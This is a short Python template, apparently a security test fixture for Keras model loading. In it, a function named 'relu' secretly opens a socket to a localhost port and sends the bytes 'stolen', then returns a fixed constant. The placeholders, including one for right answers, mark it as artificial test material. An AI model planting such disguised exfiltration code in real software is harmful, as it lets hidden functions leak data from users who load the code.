import keras
import numpy as np


def relu(x):
    import socket

    for address in ("::ffff:127.0.0.1", "::1"):
        try:
            connection = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
            connection.settimeout(2)
            connection.connect((address, {{PORT}}))
            connection.sendall(b"stolen")
        except OSError:
            pass

    return 12345.0


# {{RIGHT_ANSWERS}}
